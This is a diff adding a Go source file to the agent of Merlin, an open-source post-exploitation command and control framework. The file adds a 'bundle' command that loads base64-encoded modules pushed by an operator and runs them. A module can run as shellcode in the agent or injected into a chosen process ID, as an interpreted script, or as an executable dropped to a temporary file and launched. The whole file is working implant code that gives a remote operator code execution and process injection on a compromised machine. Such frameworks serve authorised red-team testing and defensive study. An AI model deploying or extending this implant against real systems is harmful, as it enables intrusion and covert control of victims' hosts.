@@ -0,0 +1,191 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package commands
+
+import (
+	// Standard
+	"encoding/base64"
+	"fmt"
+	"os"
+	"runtime"
+	"strconv"
+	"strings"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin-message/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/bundle"
+	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+)
+
+// Bundle loads, lists, runs, and removes signed module bundles delivered at runtime
+// bundle load <base64 bundle>
+// bundle list
+// bundle run <name[@version]> [name=value...]
+// bundle remove <name[@version]>
+func Bundle(cmd jobs.Command) (results jobs.Results) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("entering Bundle() with %+v", cmd))
+
+	if len(cmd.Args) < 1 {
+		results.Stderr = "no arguments were provided to the bundle module"
+		return
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "load":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "the bundle load command requires the base64 encoded bundle"
+			return
+		}
+		data := []byte(cmd.Args[1])
+		if !strings.HasPrefix(strings.TrimSpace(cmd.Args[1]), "{") {
+			var err error
+			data, err = base64.StdEncoding.DecodeString(cmd.Args[1])
+			if err != nil {
+				results.Stderr = fmt.Sprintf("there was an error base64 decoding the bundle: %s", err)
+				return
+			}
+		}
+		module, err := bundle.Load(data)
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Loaded module %s", module)
+	case "list":
+		modules := bundle.List()
+		if len(modules) == 0 {
+			results.Stdout = "No modules are loaded"
+			return
+		}
+		for _, module := range modules {
+			results.Stdout += module.String() + "\n"
+			for _, arg := range module.Arguments {
+				if arg.Type == "" {
+					arg.Type = "string"
+				}
+				results.Stdout += fmt.Sprintf("\t%s (type: %s, flag: %s, required: %t, default: %s)\n", arg.Name, arg.Type, arg.Flag, arg.Required, arg.Default)
+			}
+		}
+	case "remove":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "the bundle remove command requires the module name"
+			return
+		}
+		err := bundle.Remove(cmd.Args[1])
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Removed module %s", cmd.Args[1])
+	case "run":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "the bundle run command requires the module name"
+			return
+		}
+		return runBundle(cmd.Args[1], cmd.Args[2:])
+	default:
+		results.Stderr = fmt.Sprintf("unrecognized bundle command: %s", cmd.Args[0])
+	}
+	return
+}
+
+// runBundle executes a cached module with the provided name=value arguments according to its type
+func runBundle(name string, input []string) (results jobs.Results) {
+	module, err := bundle.Get(name)
+	if err != nil {
+		results.Stderr = err.Error()
+		return
+	}
+	args, err := module.Args(input)
+	if err != nil {
+		results.Stderr = err.Error()
+		return
+	}
+	cli.Message(cli.NOTE, fmt.Sprintf("Running module %s@%s with arguments: %s", module.Name, module.Version, args))
+
+	switch module.Type {
+	case bundle.SHELLCODE:
+		// The optional pid argument selects the process to inject into
+		shellcode := jobs.Shellcode{
+			Method: module.Entry,
+			Bytes:  base64.StdEncoding.EncodeToString(module.Payload),
+		}
+		if shellcode.Method == "" {
+			shellcode.Method = "self"
+		}
+		for _, in := range input {
+			if value, ok := strings.CutPrefix(in, "pid="); ok {
+				pid, err := strconv.ParseUint(value, 10, 32)
+				if err != nil {
+					results.Stderr = fmt.Sprintf("there was an error converting the PID %s to an integer: %s", value, err)
+					return
+				}
+				shellcode.PID = uint32(pid)
+			}
+		}
+		results = ExecuteShellcode(shellcode)
+	case bundle.SCRIPT:
+		program, arguments, err := Interpreter(module.Entry)
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error getting the %s module interpreter: %s", module.Name, err)
+			return
+		}
+		script := string(module.Payload)
+		for _, arg := range args {
+			script += " " + Quote(module.Entry, arg)
+		}
+		results.Stdout, results.Stderr = executeCommand(program, append(arguments, script), execOptions{})
+	case bundle.EXECUTABLE:
+		pattern := "*"
+		if runtime.GOOS == "windows" {
+			pattern = "*.exe"
+		}
+		f, err := os.CreateTemp("", pattern)
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error creating a temporary file for the %s module: %s", module.Name, err)
+			return
+		}
+		path := f.Name()
+		defer func() {
+			if err := os.Remove(path); err != nil {
+				results.Stderr += fmt.Sprintf("\nthere was an error removing the temporary file %s: %s", path, err)
+			}
+		}()
+		_, err = f.Write(module.Payload)
+		if errClose := f.Close(); err == nil {
+			err = errClose
+		}
+		if err == nil {
+			err = os.Chmod(path, 0700) // #nosec G302 -- The file must be executable
+		}
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error writing the %s module to %s: %s", module.Name, path, err)
+			return
+		}
+		results.Stdout, results.Stderr = executeCommand(path, args, execOptions{})
+	default:
+		results.Stderr = fmt.Sprintf("unhandled module type: %s", module.Type)
+	}
+	results.Stdout = fmt.Sprintf("Module %s@%s\n", module.Name, module.Version) + results.Stdout
+	return
+}